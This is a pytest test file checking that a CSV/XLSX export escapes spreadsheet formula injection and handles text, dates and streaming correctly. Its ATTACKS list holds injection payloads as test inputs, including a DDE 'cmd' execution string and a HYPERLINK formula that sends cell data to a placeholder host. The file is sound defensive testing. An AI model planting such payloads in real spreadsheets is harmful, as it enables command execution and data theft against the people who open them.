"""What a cell may hold, in either kind of file, read back by other programs."""

from datetime import date, datetime

import pytest

from outreach.documents.csv import csv_chunks
from outreach.documents.xlsx import xlsx_chunks
from outreach.queries.tables import Breakdown, Column, Kind, Table
from tests.outreach.files import csv_rows, workbook, xlsx_rows

ATTACKS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.test?"&A1,"click")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "\x00=1+1",
    "\x0b\x1f=1",
]
HARMLESS = [
    "02139",
    'Ana "Nana" O\'Neill, Jr.',
    "José\nÁlvarez",
    "שלום",
    "#N/A",
    "'quoted",
    " =1",
    "2026-08-03",
    "1e5",
    "TRUE",
]


NAME_AND_NUMBER = (Column("Name"), Column("Number", Kind.NUMBER, is_summed=True))
MOMENT = datetime.fromisoformat("2026-08-03T08:00:01")


def table(*rows, columns=NAME_AND_NUMBER):
    return Table("shifts", "Shifts", columns, iter(rows), Breakdown("By name", by="Name", number="Number"))


def as_csv(made):
    return b"".join(chunk for chunk, _rows in csv_chunks(made))


def as_xlsx(made, about=()):
    return b"".join(chunk for chunk, _rows in xlsx_chunks(made, about))


@pytest.mark.parametrize("text", ATTACKS)
def test_no_text_becomes_a_formula_in_xlsx(text):
    sheet = workbook(as_xlsx(table((text, 1)))).worksheets[0]
    cell = sheet["A2"]
    assert cell.data_type != "f"
    assert cell.value == text.lstrip("\x00\x0b\x1f")  # unchanged but for controls


@pytest.mark.parametrize("text", ATTACKS)
def test_no_text_begins_like_a_formula_in_csv(text):
    (row,) = csv_rows(as_csv(table((text, 1))))
    assert row["Name"] == "'" + text.lstrip("\x00\x0b\x1f")


@pytest.mark.parametrize("header", ["=1+1", "#REF!"])
def test_no_header_becomes_a_formula_or_an_error(header):
    made = table(("x", 1), columns=(Column(header), Column("Number", Kind.NUMBER)))
    made = Table(made.name, made.title, made.columns, made.rows, Breakdown("By", by=header))
    book = workbook(as_xlsx(made))
    assert {cell.data_type for sheet in book for row in sheet for cell in row} <= {"s", "n", "inlineStr"}
    assert book.worksheets[0]["A1"].value == header


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_the_same_in_either_file(text):
    assert xlsx_rows(as_xlsx(table((text, 1)))) == [{"Name": text, "Number": 1}]
    assert csv_rows(as_csv(table((text, 1)))) == [{"Name": text, "Number": "1"}]


@pytest.mark.parametrize("text", ["a\x00b", "a\x1bb", "a\x7fb", "a\ud800b", "a\uffffb", "a\ufffeb"])
def test_characters_that_no_file_may_hold_are_dropped(text):
    assert xlsx_rows(as_xlsx(table((text, 1))))[0]["Name"] == "ab"
    assert csv_rows(as_csv(table((text, 1))))[0]["Name"] == "ab"


def test_csv_has_a_byte_order_mark_quotes_text_and_leaves_numbers_and_days_bare():
    columns = tuple(Column(name) for name in ("Name", "Whole", "Part", "Day", "Moment", "Nothing"))
    made = Table("x", "X", columns, iter([("Ana", -3, 0.5, date(2026, 8, 3), MOMENT, None)]), None)
    assert as_csv(made).decode("utf-8") == (
        '\ufeff"Name","Whole","Part","Day","Moment","Nothing"\r\n"Ana",-3,0.5,2026-08-03,2026-08-03 08:00:01,\r\n'
    )


def test_xlsx_has_real_numbers_days_and_moments():
    kinds = (Kind.TEXT, Kind.NUMBER, Kind.HOURS, Kind.DAY, Kind.MOMENT, Kind.TEXT)
    columns = tuple(Column(kind.value + str(place), kind) for place, kind in enumerate(kinds))
    row = ("Ana", -3, 0.5, date(2026, 8, 3), MOMENT, None)
    made = Table("x", "X", columns, iter([row]), Breakdown("By", by="text0"))
    sheet = workbook(as_xlsx(made)).worksheets[0]
    assert [cell.value for cell in sheet[2]] == [
        "Ana",
        -3,
        0.5,
        datetime.fromisoformat("2026-08-03"),
        MOMENT,
        None,
    ]
    assert [cell.number_format for cell in sheet[2]][1:5] == ["0", "0.00", "yyyy-mm-dd", "yyyy-mm-dd hh:mm"]


def test_the_workbook_has_the_table_first_with_a_frozen_header_and_the_summary_last_with_a_chart():
    book = workbook(as_xlsx(table(("Ana", 2), ("Bo", 3), ("Ana", 4)), about=(("Export ID", "=x"),)))
    assert book.sheetnames == ["Shifts", "Summary"]
    first, summary = book.worksheets
    assert (first.freeze_panes, first.print_title_rows, first.dimensions) == ("A2", "$1:$1", "A1:B4")
    assert [cell.font.bold for cell in first[1]] == [True, True]
    assert list(summary.iter_rows(values_only=True)) == [
        ("Part", "What", "Value"),
        ("About", "Export ID", "=x"),
        ("Total", "Rows", 3),
        ("Total", "Number", 9),
        ("By name", "Ana", 6),
        ("By name", "Bo", 3),
    ]
    (chart,) = summary._charts
    assert chart.ser[0].val.numRef.f == "'Summary'!$C$5:$C$6"
    assert chart.ser[0].cat.numRef.f == "'Summary'!$B$5:$B$6"


def test_an_empty_table_is_a_header_and_a_summary_without_a_chart():
    book = workbook(as_xlsx(table()))
    assert [list(sheet.values) for sheet in book] == [
        [("Name", "Number")],
        [("Part", "What", "Value"), ("Total", "Rows", 0), ("Total", "Number", 0)],
    ]
    assert csv_rows(as_csv(table())) == []


def test_a_sheets_name_has_no_forbidden_character_and_is_short():
    made = table()
    named = Table("x", "Conversations: a/b [of] the long campaign of August", made.columns, made.rows, made.breakdown)
    assert workbook(as_xlsx(named)).sheetnames[0] == "Conversations  a b  of  the lon"


def test_an_xlsx_leaves_in_pieces_the_first_one_before_any_row_is_read():
    read = []

    def rows():
        for number in range(1200):
            read.append(number)
            yield (f"Corner {number} & <further>", number)

    many = Table("t", "Many", table().columns, rows(), table().breakdown)
    chunks = xlsx_chunks(many, ())
    first, first_rows = next(chunks)
    assert (first[:2], first_rows, read) == (b"PK", 0, [])
    rest = list(chunks)
    assert [rows for _chunk, rows in rest] == [500, 500, 200, 0]
    sheet = workbook(first + b"".join(chunk for chunk, _rows in rest)).worksheets[0]
    assert (sheet.max_row, sheet["A1201"].value, sheet["B1201"].value) == (1201, "Corner 1199 & <further>", 1199)
